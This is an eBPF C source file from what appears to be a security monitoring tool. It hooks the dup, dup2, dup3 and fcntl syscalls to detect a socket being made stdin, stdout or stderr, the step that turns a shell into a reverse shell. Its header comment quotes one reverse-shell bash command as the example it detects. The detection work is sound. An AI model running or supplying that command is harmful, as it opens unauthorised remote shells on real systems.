// SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
/*
 * Hook: syscalls dup, dup2, dup3, fcntl enter+exit -> PAL_EVENT_FD_DUP (palisade.v1.FdDup): a socket made fd 0, 1
 * or 2, the step that turns a shell into a reverse shell (`bash -i >& /dev/tcp/host/port 0>&1` is dup2(sock, 1),
 * dup2(1, 2), dup2(1, 0)). sys_enter keeps only calls whose old fd is a socket and whose new fd can be 0..2 (dup2/dup3:
 * newfd <= 2; fcntl: F_DUPFD/F_DUPFD_CLOEXEC with arg <= 2; dup: always); sys_exit emits when the new fd is 0..2,
 * or when a dup2/dup3 onto 0..2 failed. A dup of anything else onto stdio (a file, a pipe, a tty) is not emitted.
 */
#include "vmlinux.h"
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_core_read.h>
#include "palisade.h"
#include "maps.bpf.h"
#include "sock.bpf.h"

#define PAL_F_DUPFD 0
#define PAL_F_DUPFD_CLOEXEC 1030

/* Stash slots: args[0] = old fd, args[1] = new fd asked for (-1 for dup), args[2] = dup3 flags / fcntl cmd. */
static __always_inline void fd_dup__enter(__u16 op, int oldfd, int newfd, __u32 flags)
{
	struct pal_stash_args st = {};

	if (!sock__fd_is_socket(oldfd) || !sysev__wanted(PAL_EVENT_FD_DUP))
		return;
	st.kind = PAL_EVENT_FD_DUP;
	st.op = op;
	st.args[0] = (__u64)(__s64)oldfd;
	st.args[1] = (__u64)(__s64)newfd;
	st.args[2] = flags;
	sysev__stash(&st);
}

static __always_inline void fd_dup__exit(void *ctx, long ret)
{
	__u32 tid = (__u32)bpf_get_current_pid_tgid();
	struct pal_fd_dup_event *e;
	struct pal_stash_args *st;
	union pal_scratch *s;
	int oldfd, newfd;
	bool asked;

	st = bpf_map_lookup_elem(&pal_stash_args, &tid);
	if (!st || st->kind != PAL_EVENT_FD_DUP)
		return;
	oldfd = (int)st->args[0];
	newfd = (int)st->args[1];
	asked = (st->op == PAL_OP_DUP2 || st->op == PAL_OP_DUP3) && newfd >= 0 && newfd <= 2;
	if (ret > 2 || (ret < 0 && !asked))
		goto out;
	s = output__scratch();
	if (!s)
		goto out;
	e = &s->fd_dup;
	e->result = ret;
	e->op = st->op;
	e->_pad0 = 0;
	e->old_fd = oldfd;
	e->new_fd = newfd;
	e->flags = (__u32)st->args[2];
	/* The new fd shares the old one's struct file: read it there (what stdio now is); the old one on failure. */
	sock__from_file(sysev__fd_file(ret >= 0 ? (int)ret : oldfd), &e->sock);
	task__fill_header(&e->hdr, PAL_EVENT_FD_DUP, sizeof(*e));
	output__submit(ctx, e, sizeof(*e));
out:
	bpf_map_delete_elem(&pal_stash_args, &tid);
}

PAL_KIND(FD_DUP)
SEC("tracepoint/syscalls/sys_enter_dup")
int pal_dup_in(struct trace_event_raw_sys_enter *ctx)
{
	fd_dup__enter(PAL_OP_DUP, (int)ctx->args[0], -1, 0);
	return 0;
}

PAL_KIND(FD_DUP)
SEC("tracepoint/syscalls/sys_exit_dup")
int pal_dup_out(struct trace_event_raw_sys_exit *ctx)
{
	fd_dup__exit(ctx, ctx->ret);
	return 0;
}

PAL_KIND(FD_DUP)
SEC("tracepoint/syscalls/sys_enter_dup2")
int pal_dup2_in(struct trace_event_raw_sys_enter *ctx)
{
	int newfd = (int)ctx->args[1];

	if (newfd >= 0 && newfd <= 2)
		fd_dup__enter(PAL_OP_DUP2, (int)ctx->args[0], newfd, 0);
	return 0;
}

PAL_KIND(FD_DUP)
SEC("tracepoint/syscalls/sys_exit_dup2")
int pal_dup2_out(struct trace_event_raw_sys_exit *ctx)
{
	fd_dup__exit(ctx, ctx->ret);
	return 0;
}

PAL_KIND(FD_DUP)
SEC("tracepoint/syscalls/sys_enter_dup3")
int pal_dup3_in(struct trace_event_raw_sys_enter *ctx)
{
	int newfd = (int)ctx->args[1];

	if (newfd >= 0 && newfd <= 2)
		fd_dup__enter(PAL_OP_DUP3, (int)ctx->args[0], newfd, (__u32)ctx->args[2]);
	return 0;
}

PAL_KIND(FD_DUP)
SEC("tracepoint/syscalls/sys_exit_dup3")
int pal_dup3_out(struct trace_event_raw_sys_exit *ctx)
{
	fd_dup__exit(ctx, ctx->ret);
	return 0;
}

/* fcntl is common (F_GETFL/F_SETFL on every non-blocking socket): anything but a dup onto 0..2 returns at once. */
PAL_KIND(FD_DUP)
SEC("tracepoint/syscalls/sys_enter_fcntl")
int pal_fcntl_in(struct trace_event_raw_sys_enter *ctx)
{
	__u32 cmd = (__u32)ctx->args[1];
	long arg = (long)ctx->args[2];

	if ((cmd == PAL_F_DUPFD || cmd == PAL_F_DUPFD_CLOEXEC) && arg >= 0 && arg <= 2)
		fd_dup__enter(PAL_OP_FCNTL, (int)ctx->args[0], (int)arg, cmd);
	return 0;
}

PAL_KIND(FD_DUP)
SEC("tracepoint/syscalls/sys_exit_fcntl")
int pal_fcntl_out(struct trace_event_raw_sys_exit *ctx)
{
	fd_dup__exit(ctx, ctx->ret);
	return 0;
}
